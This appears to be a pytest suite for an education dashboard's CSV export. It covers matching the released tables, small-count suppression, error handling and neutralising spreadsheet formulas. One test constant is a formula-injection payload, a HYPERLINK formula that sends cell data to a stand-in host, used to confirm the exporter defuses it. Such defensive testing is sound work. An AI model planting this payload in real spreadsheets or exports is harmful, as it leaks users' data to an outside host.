"""`edudash export`: tidy CSVs identical to the tables, a datapackage, formula cells defused."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from edudash.cli import main
from privacy import TableRequest, public_release, release_table
from privacy.registry import releases
from privacy.release import release_years
from privacy.tables import neutralise
from tests.conftest import RELEASE_YEAR as YEAR
from warehouse.connection import rewrite_warehouse


class Staff:
    user_id = "exporter"

    def __init__(self, _: str) -> None:
        pass


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    body = "\n".join(line for line in text.splitlines() if not line.startswith("# "))
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("Portland High", "Portland High"),
        ("85.2%", "85.2%"),
        (">=95%", ">=95%"),
        (None, ""),
    ],
)
def test_neutralise(value, expected) -> None:  # noqa: ANN001
    assert neutralise(value) == expected


def test_export_writes_the_exact_table_bytes(released_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["export", "--db", str(released_db), "--out", str(out), "--year", YEAR]) == 0
    rel = public_release(released_db, YEAR)
    package = json.loads((out / "datapackage.json").read_text())
    assert len(package["resources"]) == len(rel.tables)
    for res in package["resources"]:
        name = res["name"].removesuffix(f"_{YEAR}")
        table = rel.table(name)
        assert (out / res["path"]).read_bytes() == table.to_csv_bytes()
        assert res["release_id"] == rel.release_id
        assert res["dialect"]["commentChar"] == "#"
        header = _rows(table.to_csv_bytes())[0]
        assert [f["name"] for f in res["schema"]["fields"]] == header
        assert "data" not in res  # no inline values in the package
    assert {"*", "All", "<=5%", ">=95%"} <= set(package["markers"])
    assert not list(out.glob(".export-*")), "temporary folder left behind"
    exports = releases(released_db, kind="export", school_year=YEAR)
    assert exports and json.loads(exports[-1].request)["public_release_id"] == rel.release_id


def test_csv_layout(released_db: Path) -> None:
    table = public_release(released_db, YEAR).table("graduation_district_gender")
    text = table.to_csv_bytes().decode()
    assert text.startswith("# ") and f"# release_id: {table.release_id}\n" in text
    rows = _rows(table.to_csv_bytes())
    header, body = rows[0], rows[1:]
    assert header[:4] == ["district_id", "district_name", "gender", "gender_label"]
    count = header.index("count")
    rate = header.index("rate")
    assert "All" in {r[2] for r in body}
    for r in body:
        assert r[count] == "*" or r[count].isdigit()
        assert r[rate] in ("", "*") or r[rate].endswith("%")


def test_no_small_count_in_any_csv(released_db: Path) -> None:
    for table in public_release(released_db, YEAR).tables.values():
        rows = _rows(table.to_csv_bytes())
        header = rows[0]
        for col in ("count", "denominator"):
            i = header.index(col)
            for r in rows[1:]:
                if table.request.measure != "staff" and r[i].isdigit():
                    assert not 1 <= int(r[i]) <= 9, (table.title, r)


def test_formula_in_a_school_name_is_defused(built_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "evil.duckdb"
    shutil.copyfile(built_db, db)
    with rewrite_warehouse(db, copy_existing=True) as con:
        target = con.execute("SELECT min(school_id) FROM schools").fetchall()[0][0]
        con.execute("UPDATE schools SET school_name = ? WHERE school_id = ?", [EVIL, target])
    request = TableRequest("staff", YEAR, "school", ("role",))
    table = release_table(db, request, Staff("exporter"))
    data = table.to_csv_bytes()
    assert b"'=HYPERLINK" in data
    for row in _rows(data):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert EVIL in table.data["school_name"].to_list()  # the table itself keeps the true name


def test_export_refuses_unknown_year(released_db: Path, tmp_path: Path, capsys) -> None:  # noqa: ANN001
    out = tmp_path / "none"
    assert main(["export", "--db", str(released_db), "--out", str(out), "--year", "1999-00"]) == 1
    assert "unknown school year" in capsys.readouterr().err
    assert not list(out.glob("*.csv"))


def test_export_to_a_path_that_cannot_be_a_folder_fails_first_in_one_plain_line(
    fresh_db: Path,
    tmp_path: Path,
    capsys,  # noqa: ANN001
) -> None:
    """An --out under a file fails in one line naming the path and the system's reason,
    before any year is protected, recorded or charged to its noise budget."""
    from privacy.budget import ledger, set_cap

    afile = tmp_path / "afile"
    afile.write_text("x")
    year = release_years(fresh_db)[-1]
    set_cap(fresh_db, year, epsilon=10.0, set_by="edm")  # a noisy export could be charged
    for extra in ([], ["--noise", "laplace", "--epsilon", "1"]):
        argv = ["export", "--db", str(fresh_db), "--out", str(afile / "out"), "--year", year]
        assert main([*argv, *extra]) == 1
        assert capsys.readouterr().err == f"edudash export: {afile / 'out'}: Not a directory\n"
    assert releases(fresh_db) == [] and ledger(fresh_db, year) == []
    assert afile.read_text() == "x"


def test_export_names_a_folder_and_each_year_once(
    released_db: Path,
    tmp_path: Path,
    capsys,  # noqa: ANN001
    monkeypatch,  # noqa: ANN001
) -> None:
    """An empty --out is refused (it used to write into the current folder); a year given
    twice is exported once (the second pass used to fail half-way through the renames)."""
    monkeypatch.chdir(tmp_path)
    assert main(["export", "--db", str(released_db), "--out", "", "--year", YEAR]) == 1
    assert capsys.readouterr().err == (
        "edudash export: the output folder is empty: name a folder to write into\n"
    )
    assert list(tmp_path.iterdir()) == []
    out = tmp_path / "twice"
    argv = ["export", "--db", str(released_db), "--out", str(out), "--year", YEAR, "--year", YEAR]
    assert main(argv) == 0
    once = tmp_path / "once"
    assert main(["export", "--db", str(released_db), "--out", str(once), "--year", YEAR]) == 0
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in once.iterdir())
    package = json.loads((out / "datapackage.json").read_text())
    names = [r["name"] for r in package["resources"]]
    assert len(names) == len(set(names)) == len(list(out.glob("*.csv")))


def test_export_protects_a_year_not_released_yet_on_every_core(
    fresh_db: Path,
    tmp_path: Path,
    monkeypatch,  # noqa: ANN001
) -> None:
    """`edudash export` of a year with no release yet protects it first, in as many worker
    processes as the machine lets it use (as `edudash serve` does), not in one; the tables
    are those of the recorded release."""
    import privacy.export as export_module
    from privacy import parallel

    real = export_module.public_release
    asked: list[int] = []

    def counting(db, year, noise=None, *, workers=1):  # noqa: ANN001, ANN202
        asked.append(workers)
        return real(db, year, noise, workers=workers)

    monkeypatch.setattr(export_module, "public_release", counting)
    monkeypatch.setattr(parallel, "cores", lambda: 2)
    out = tmp_path / "out"
    assert main(["export", "--db", str(fresh_db), "--out", str(out), "--year", YEAR]) == 0
    assert asked == [2]
    rel = public_release(fresh_db, YEAR)
    assert [r.release_id for r in releases(fresh_db, kind="public")] == [rel.release_id]
    for name, table in rel.tables.items():
        path = out / f"{export_module.resource_name(name, YEAR)}.csv"
        assert path.read_bytes() == table.to_csv_bytes(), name
